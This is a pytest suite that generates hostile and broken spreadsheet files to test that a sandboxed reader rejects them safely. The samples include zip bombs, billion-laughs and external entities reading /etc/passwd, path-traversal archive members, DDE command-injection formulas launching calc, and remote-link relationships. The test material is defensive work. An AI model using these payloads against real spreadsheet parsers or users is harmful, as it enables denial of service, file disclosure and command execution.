"""Harmful and broken files, each made here: a clear answer, bounded memory and time, and the next file is read as ever."""

from __future__ import annotations

import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from tests.faults.workbooks import PATIENCE, SHEET, STRINGS, added, after_rows, changed, good, in_sheet, members, packed, with_formula

from evaluation.intake.sandbox import Limits, Reader

pytestmark = pytest.mark.slow  # left to `make test`: many files, or many stores

MIB = 2**20
Make = Callable[[], bytes]


@pytest.fixture(scope="module")
def reader() -> Iterator[Reader]:
    # One process for all of them: what a file leaves behind there would show in the next one's answer.
    with Reader(Limits(seconds=PATIENCE, fresh=False)) as reader:
        yield reader


def answered(reader: Reader, body: bytes) -> list[str]:
    """Return the codes of a file's findings; the sandbox's own limits bound time, and memory is looked at here."""
    reading, tried = reader.attempt(body, "a.xlsx")
    assert tried.outcome in ("read", "memory"), tried
    assert tried.peak_bytes < reader.start["resident_bytes"] + 300 * MIB
    for found in reading.findings:
        assert found.message.vi
        assert found.message.en
        assert "{" not in found.message.vi + found.message.en
    if reading.refused:
        assert (reading.cover, reading.rows, reading.sheets, reading.narrative) == (None, (), (), "")
    return [f.code for f in reading.findings]


def test_the_file_that_all_of_them_are_made_from_is_good(reader: Reader) -> None:
    reading, tried = reader.attempt(good(), "a.xlsx")
    assert tried.outcome == "read"
    assert reading.accepted
    assert reading.rows


def inline(cell: str, text: bytes) -> bytes:
    row = "".join(c for c in cell if c.isdigit())
    return f'<row r="{row}"><c r="{cell}" t="inlineStr"><is><t>'.encode() + text + b"</t></is></c></row>"


# 1-3: archives that unpack to far more than they seem to hold
def bomb() -> bytes:
    return in_sheet(b'<row r="14"><c r="A14"><v>1</v></c></row>' * 2_000_000)


def blank_bomb() -> bytes:
    return in_sheet(b" " * (1024 * MIB // 8))


def lying_bomb() -> bytes:
    parts = members(good())
    big = parts[SHEET] + b" " * (200 * MIB)
    raw = packed({**parts, SHEET: big})
    size, crc = struct.pack("<L", len(big)), struct.pack("<L", zlib.crc32(big))
    return raw.replace(size, struct.pack("<L", 1000)).replace(crc, struct.pack("<L", zlib.crc32(big[:1000])))


def overlapping() -> bytes:
    """Return an archive in which one stretch of data stands under a thousand names."""
    raw = packed({"xl/workbook.xml": b"<a>" + b" " * MIB + b"</a>", "[Content_Types].xml": b"<a/>"})
    start = raw.index(b"PK\1\2")
    end = raw.index(b"PK\5\6")
    entry = raw[start : start + 46 + len("xl/workbook.xml")]
    copies = b"".join(entry[:46] + f"xl/work{n:04}.xml".encode()[:15] for n in range(900))
    tail = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 902, 902, end - start + len(copies), start, 0)
    return raw[:end] + copies + tail


# 4: one name, two contents
def doubled() -> bytes:
    out = io.BytesIO(good())
    with zipfile.ZipFile(out, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr(SHEET, b"<worksheet/>")
    return out.getvalue()


# 5: entities
def lol(levels: int, name: str = "a", encoding: str = "utf-8") -> bytes:
    lines = [f'<!ENTITY {name}0 "{"ha" * 50}">']
    lines += [f'<!ENTITY {name}{n} "{f"&{name}{n - 1};" * 10}">' for n in range(1, levels)]
    head = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE worksheet [{"".join(lines)}]>'
    return (head + f"<worksheet><a>&{name}{levels - 1};</a></worksheet>").encode(encoding)


def with_sheet(xml: bytes) -> Make:
    return lambda: changed(SHEET, lambda _: xml)


EXTERNAL = b'<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet>&x;</worksheet>'
QUADRATIC = b'<!DOCTYPE worksheet [<!ENTITY a "' + b"a" * 50_000 + b'">]><worksheet>' + b"&a;" * 50_000 + b"</worksheet>"
EMPTY_TYPE = b"<!DOCTYPE worksheet><worksheet/>"


# 6-9: sheets
def far_cell() -> bytes:
    return in_sheet(b'<row r="1048576"><c r="XFD1048576"><v>7</v></c></row>')


def merged(number: int) -> bytes:
    return after_rows(
        f'<mergeCells count="{number}">'.encode()
        + b"".join(b'<mergeCell ref="N%d:O%d"/>' % (n, n) for n in range(1, number + 1))
        + b"</mergeCells>"
    )


def shared_strings(size: int) -> bytes:
    line = "".join(random.Random(1).choices("abcdefgh", k=1000))
    return added(STRINGS, b"<sst>" + f"<si><t>{line}</t></si>".encode() * (size // 1015) + b"</sst>")


def many_sheets() -> bytes:
    return packed(members(good()) | {f"xl/worksheets/s{n}.xml": b"<worksheet/>" for n in range(10_000)})


def one_sheet_many_times() -> bytes:
    return changed(
        "xl/workbook.xml", lambda b: b.replace(b"</sheets>", b'<sheet name="a" sheetId="77" r:id="rId2"/>' * 10_000 + b"</sheets>")
    )


# Links, macros and objects
RELATIONS = "xl/worksheets/_rels/sheet2.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def related(kind: str, target: str, mode: str = "External") -> Make:
    xml = f'<Relationships><Relationship Id="r1" Type="{OFFICE}{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    return lambda: added(RELATIONS, xml.encode())


def typed_as(content_type: str) -> Make:
    main = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return lambda: changed("[Content_Types].xml", lambda b: b.replace(main, content_type.encode()))


def ods(content: str) -> Make:
    mime = b"application/vnd.oasis.opendocument.spreadsheet"
    xml = (
        f"<office:document-content><office:body><office:spreadsheet>{content}</office:spreadsheet></office:body></office:document-content>"
    )
    return lambda: packed({"mimetype": mime, "content.xml": xml.encode()})


HOSTILE: dict[str, tuple[Make, str]] = {
    "bomb of cells": (bomb, "IN-014"),
    "bomb of blanks": (blank_bomb, "IN-014"),
    "bomb that lies": (lying_bomb, "IN-014"),
    "bomb of shared data": (overlapping, "IN-015"),
    "one name twice": (doubled, "IN-015"),
    "entities": (with_sheet(lol(6)), "IN-016"),
    "entities in UTF-16": (with_sheet(lol(6, encoding="utf-16")), "IN-016"),
    "many entities": (with_sheet(lol(9)), "IN-016"),
    "external entity": (with_sheet(EXTERNAL), "IN-016"),
    "quadratic": (with_sheet(QUADRATIC), "IN-016"),
    "document type alone": (with_sheet(EMPTY_TYPE), "IN-016"),
    "entities in relationships": (lambda: added(RELATIONS, lol(6)), "IN-016"),
    "entities in unused parts": (lambda: added("customXml/item1.xml", lol(6)), "IN-016"),
    "unknown encoding": (with_sheet(b'<?xml version="1.0" encoding="utf-7"?><worksheet/>'), "IN-001"),
    "far cell": (far_cell, "IN-021"),
    "too many rows": (
        lambda: in_sheet(b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (n, n) for n in range(14, 5_100))),
        "IN-021",
    ),
    "one long text": (lambda: in_sheet(inline("A400", b"x" * 32_768)), "IN-014"),
    "one text of 40 MB": (lambda: in_sheet(inline("A400", b"x" * (40 * MIB))), "IN-014"),
    "one text of 512 MB": (lambda: in_sheet(inline("A400", b"x" * (512 * MIB))), "IN-014"),
    "one text in many runs": (lambda: in_sheet(inline("A400", b"</t><t>".join([b"x" * 1000] * 40))), "IN-014"),
    "one attribute of 40 MB": (lambda: in_sheet(b'<row r="400" a="' + b"x" * (40 * MIB) + b'"/>'), "IN-014"),
    "100 MB of shared strings": (lambda: shared_strings(100 * MIB), "IN-014"),
    "42,000 merged ranges": (lambda: merged(42_000), "IN-014"),
    "10,000 sheets": (many_sheets, "IN-014"),
    "10,000 sheets of one part": (one_sheet_many_times, "IN-014"),
    "nested XML": (lambda: after_rows(b"<a>" * 100_000 + b"</a>" * 100_000), "IN-015"),
    "member outside": (lambda: added("../../tmp/x.xml", b"<a/>"), "IN-015"),
    "member from the root": (lambda: added("/etc/cron.d/x.xml", b"<a/>"), "IN-015"),
    "member with backslashes": (lambda: added("xl\\..\\..\\x.xml", b"<a/>"), "IN-015"),
    "member with a newline": (lambda: added("xl/a\nb.xml", b"<a/>"), "IN-015"),
    "member with a right-to-left mark": (lambda: added("xl/a\u202eb.xml", b"<a/>"), "IN-015"),
    "macros": (lambda: added("xl/vbaProject.bin", b"\0"), "IN-012"),
    "macros by type": (typed_as("application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "IN-012"),
    "macros in another place": (related("vbaProject", "x.xml", "Internal"), "IN-012"),
    "macro on a shape": (lambda: added("xl/drawings/drawing1.xml", b'<a><sp macro="[0]!Go"/></a>'), "IN-012"),
    "old macro sheet": (lambda: added("xl/macrosheets/sheet1.xml", b"<a/>"), "IN-012"),
    "external workbook": (lambda: added("xl/externalLinks/externalLink1.xml", b"<externalLink/>"), "IN-013"),
    "external workbook by relation": (related("externalLinkPath", "file:///C:/a.xlsx"), "IN-013"),
    "remote template": (related("attachedTemplate", "https://example.org/a.dotm"), "IN-013"),
    "remote picture": (related("image", "https://example.org/a.png"), "IN-013"),
    "remote object": (related("oleObject", "https://example.org/a"), "IN-013"),
    "remote without saying so": (related("image2", "https://example.org/a.png", "Internal"), "IN-013"),
    "share of the network": (related("hyperlink", "\\\\host\\share\\a.xlsx"), "IN-013"),
    "link to a file": (related("hyperlink", "file:///C:/a.exe"), "IN-013"),
    "link that runs a script": (related("hyperlink", "javascript:x()"), "IN-013"),
    "connections": (lambda: added("xl/connections.xml", b"<connections/>"), "IN-013"),
    "query": (lambda: added("customXml/item1.xml", b"<DataMashup>AAAA</DataMashup>"), "IN-013"),
    "DDE": (lambda: with_formula("cmd|'/c calc'!A0"), "IN-013"),
    "DDE after a sum": (lambda: with_formula("SUM(1)+cmd|' /C calc'!A0"), "IN-013"),
    "WEBSERVICE": (lambda: with_formula("_xlfn.WEBSERVICE(&quot;http://example.org/&quot;&amp;A1)"), "IN-013"),
    "HYPERLINK": (lambda: with_formula("HYPERLINK(&quot;http://example.org/&quot;&amp;A1)"), "IN-013"),
    "other workbook": (lambda: with_formula("[1]Sheet1!A1"), "IN-013"),
    "other workbook by path": (lambda: with_formula("'C:\\x\\[b.xlsx]S 1'!A1"), "IN-013"),
    "INDIRECT": (lambda: with_formula("INDIRECT(&quot;'[b.xlsx]S'!A1&quot;)"), "IN-013"),
    "formula in a name": (
        lambda: changed(
            "xl/workbook.xml", lambda b: b.replace(b"</definedNames>", b'<definedName name="a">cmd|x!y</definedName></definedNames>')
        ),
        "IN-013",
    ),
    "formula in a check": (
        lambda: after_rows(b"<dataValidations><dataValidation><formula1>cmd|x!y</formula1></dataValidation></dataValidations>"),
        "IN-013",
    ),
    "text that becomes DDE": (lambda: in_sheet(inline("A400", b"=cmd|' /C calc'!A0")), "IN-013"),
    "text that becomes DDE, in runs": (lambda: in_sheet(inline("A400", b"@SUM(1)*cm</t><t>d|' /C calc'!A0")), "IN-013"),
    "picture": (lambda: added("xl/media/image1.png", b"\x89PNG"), "IN-017"),
    "object": (lambda: added("xl/embeddings/oleObject1.bin", b"\0"), "IN-017"),
    "ActiveX": (lambda: added("xl/activeX/activeX1.xml", b"<a/>"), "IN-017"),
    "document of Word": (lambda: packed({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<a/>"}), "IN-020"),
    "cut": (lambda: good()[: len(good()) // 2], "IN-001"),
    "cut at the end": (lambda: good()[:-1], "IN-001"),
    "nothing": (lambda: b"", "IN-001"),
    "junk": (lambda: random.Random(7).randbytes(50_000), "IN-020"),
    "password": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"), "IN-011"),
    "old .xls": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "Workbook".encode("utf-16-le"), "IN-010"),
    "CSV with DDE": (lambda: b"a,b\r\n1,=cmd|' /C calc'!A0\r\n", "IN-013"),
    "CSV with DDE in quotes": (lambda: b'a;b\r\n1;"@SUM(1)+cmd|\' /C ""calc""\'!A0"\r\n', "IN-013"),
    "CSV that calls out": (lambda: b"a\tb\r\n1\t+WEBSERVICE(A1)\r\n", "IN-013"),
    "ODS with DDE": (ods("<table:table><table:dde-source/></table:table>"), "IN-013"),
    "ODS with a DDE formula": (
        ods('<table:table><table:table-cell table:formula="of:=DDE(&quot;a&quot;;&quot;b&quot;;&quot;c&quot;)"/></table:table>'),
        "IN-013",
    ),
    "ODS with another file": (
        ods("<table:table><table:table-cell table:formula=\"of:='file:///x.ods'#$A.A1\"/></table:table>"),
        "IN-013",
    ),
    "ODS with a linked sheet": (ods('<table:table><table:table-source xlink:href="../x.ods"/></table:table>'), "IN-013"),
    "ODS with a script": (ods('<script:event-listener script:event-name="dom:load"/>'), "IN-012"),
    "ODS with an object": (ods('<draw:object xlink:href="./Object 1"/>'), "IN-017"),
    "ODS with entities": (lambda: packed({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": lol(6)}), "IN-016"),
    "ODS with 1,000 sheets": (ods('<table:table table:name="a"/>' * 1000), "IN-014"),
    "ODS with a row a million times": (
        ods(
            '<table:table table:name="a"><table:table-row table:number-rows-repeated="1048576"><table:table-cell office:value-type="float"'
            ' office:value="5" table:number-columns-repeated="16384"/></table:table-row></table:table>'
        ),
        "IN-021",
    ),
}
LARGE = {"bomb of cells", "bomb that lies", "one text of 512 MB", "bomb of blanks", "100 MB of shared strings", "one text of 40 MB"}


@pytest.mark.parametrize("name", [pytest.param(n, marks=pytest.mark.slow) if n in LARGE else n for n in HOSTILE])
def test_a_harmful_file_is_answered(reader: Reader, name: str) -> None:
    make, code = HOSTILE[name]
    codes = answered(reader, make())
    assert code in codes
    assert set(codes) == {code}


def test_the_others_are_read_as_ever(reader: Reader) -> None:
    """Whatever came before and between, a good file gives the same."""
    alone = reader.read(good(), "a.xlsx")
    bodies = [good(), far_cell(), good(), b"", merged(42_000), EXTERNAL, good(), many_sheets(), good()]
    found = list(reader.read_many((b, "a.xlsx") for b in bodies))
    assert [r.accepted for r in found] == [b == good() for b in bodies]
    assert all(r == alone for r, b in zip(found, bodies, strict=True) if b == good())


HONEST: dict[str, Make] = {
    "dimension too large": lambda: changed(SHEET, lambda b: re.sub(rb"<dimension [^>]*/>", b'<dimension ref="A1:XFD1048576"/>', b)),
    "dimension too small": lambda: changed(SHEET, lambda b: re.sub(rb"<dimension [^>]*/>", b'<dimension ref="A1:B2"/>', b)),
    "no dimension": lambda: changed(SHEET, lambda b: re.sub(rb"<dimension [^>]*/>", b"", b)),
    "styles that shrink a hundredfold": lambda: changed(
        "xl/styles.xml", lambda b: b.replace(b"</styleSheet>", b"<!--" + b" " * 300_000 + b"--></styleSheet>")
    ),
    "a thousand merged ranges": lambda: merged(1_000),
    "printer settings": lambda: added("xl/printerSettings/printerSettings1.bin", b"\0\xff" * 400),
    "spaces behind the table": lambda: in_sheet(b" " * MIB),
    "stored and not deflated": lambda: packed(members(good()), zipfile.ZIP_STORED),
}


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_file_that_looks_odd_gives_the_same_figures(reader: Reader, name: str) -> None:
    expected = reader.read(good(), "a.xlsx")
    reading = reader.read(HONEST[name](), "a.xlsx")
    assert reading.rows == expected.rows
    assert reading.accepted


def test_a_cell_as_long_as_excel_allows_is_read(reader: Reader) -> None:
    assert "IN-014" not in answered(reader, in_sheet(inline("A400", "à".encode() * 32_767)))


@pytest.mark.parametrize(
    "text", [b"_xD800_", b"_x0000_", b"_x202E_abc", "\u202eabc\u200f".encode(), b"\xf0\x9f\x8f\xa5", "\ufffe"[:0].encode() + b"&#xFFFD;"]
)
def test_odd_signs_in_a_cell_do_no_harm(reader: Reader, text: bytes) -> None:
    reading, tried = reader.attempt(in_sheet(inline("A400", text)), "a.xlsx")
    assert tried.outcome == "read"
    shown = "".join(f.message.vi + f.message.en + f.sheet + f.cell for f in reading.findings)
    shown.encode("utf-8")
    assert not set(shown) & set("\u202e\u200f\x00")


@pytest.mark.parametrize("text", [b"\xff\xfe", b"\xed\xa0\x80", b"&#xD800;", b"&#0;", b"\x00", b"\x0b"])
def test_what_is_no_text_at_all_is_damage(reader: Reader, text: bytes) -> None:
    assert answered(reader, in_sheet(inline("A400", text))) == ["IN-001"]


def test_every_length_of_a_cut_file_is_answered(reader: Reader) -> None:
    rng = random.Random(11)
    for length in rng.sample(range(1, len(good())), 40):
        codes = answered(reader, good()[:length])
        assert set(codes) <= {"IN-001", "IN-020"}, length


def test_nothing_of_a_refused_file_remains(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    canary = b"kestrel-77141-canary"
    for name in ("TMPDIR", "TEMP", "TMP"):
        monkeypatch.setenv(name, str(tmp_path))
    hidden = [
        in_sheet(inline("A400", canary) + inline("A401", b"=cmd|'/C " + canary + b"'!A0")),
        added("xl/media/" + canary.decode() + ".png", canary * 100),
        with_sheet(EXTERNAL.replace(b"/etc/passwd", canary))(),
        in_sheet(inline("A400", canary + b"x" * 40_000)),
    ]
    with Reader(Limits(seconds=PATIENCE)) as reader:
        for body in hidden:
            reading, tried = reader.attempt(body, "a.xlsx")
            assert reading.refused
            assert canary.decode() not in repr(reading) + repr(tried)
    assert not list(tmp_path.rglob("*"))
